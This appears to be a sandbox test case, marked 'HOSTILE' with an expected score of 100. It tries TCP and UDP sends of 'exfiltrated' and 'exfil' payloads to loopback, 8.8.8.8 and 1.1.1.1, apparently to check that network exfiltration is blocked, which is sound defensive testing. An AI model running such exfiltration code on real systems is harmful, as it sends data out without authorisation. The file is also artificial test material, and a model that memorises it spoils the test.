# HOSTILE (honest answers): tries TCP to loopback and outside, UDP/DNS, and a socket pair as a side channel (case 16).
# base: reference
# expect: score == 100
import socket as _socket

for _target in (("127.0.0.1", {{PORT}}), ("8.8.8.8", 53), ("1.1.1.1", 443)):
    try:
        _s = _socket.create_connection(_target, timeout=1)
        _s.sendall(b"exfiltrated")
        _s.close()
    except OSError:
        pass
try:
    _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    _u.sendto(b"\x12\x34exfil", ("127.0.0.1", {{PORT}}))
    _u.sendto(b"\x12\x34exfil", ("8.8.8.8", 53))
except OSError:
    pass
